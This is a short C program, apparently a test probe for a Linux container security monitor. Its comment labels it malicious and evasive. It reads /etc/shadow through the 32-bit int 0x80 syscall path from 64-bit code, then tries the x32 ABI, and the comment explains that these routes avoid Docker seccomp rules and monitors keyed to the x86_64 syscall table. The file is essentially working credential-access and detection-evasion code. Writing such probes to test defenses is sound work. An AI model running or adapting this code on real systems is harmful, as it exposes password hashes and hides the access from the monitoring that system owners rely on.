/* Malicious, evasive: reads /etc/shadow (T1003.008) through the i386 syscall entry (int 0x80)
 * from 64-bit code, which Docker's default seccomp profile allows and monitors written for the
 * x86_64 syscall table miss; then tries the x32 ABI (nr | 0x40000000), usually ENOSYS. Static and
 * not position-independent, so its data sits below 4 GiB where 32-bit pointers can reach it. */
#include "common.h"

static const char path[] = "/etc/shadow";
static char buf[4096];

static long sys32(long nr, long a, long b, long c) {
  long r;
  __asm__ volatile("int $0x80" : "=a"(r) : "a"(nr), "b"(a), "c"(b), "d"(c) : "memory");
  return r;
}

int main(void) {
  /* i386 numbers: open 5, read 3, close 6 */
  long fd = sys32(5, (long)path, 0 /* O_RDONLY */, 0);
  if (fd < 0) { fprintf(stderr, "int 0x80 open: %ld\n", fd); return 1; }
  long n = sys32(3, fd, (long)buf, sizeof buf);
  sys32(6, fd, 0, 0);
  SAY("probe-int80-shadow: read %ld bytes of /etc/shadow through int 0x80", n);
  long x;
  __asm__ volatile("syscall" : "=a"(x) : "a"(0x40000000L | 2L), "D"(path), "S"(0L) : "rcx", "r11", "memory");
  SAY("probe-int80-shadow: x32 open returned %ld", x);
  return 0;
}
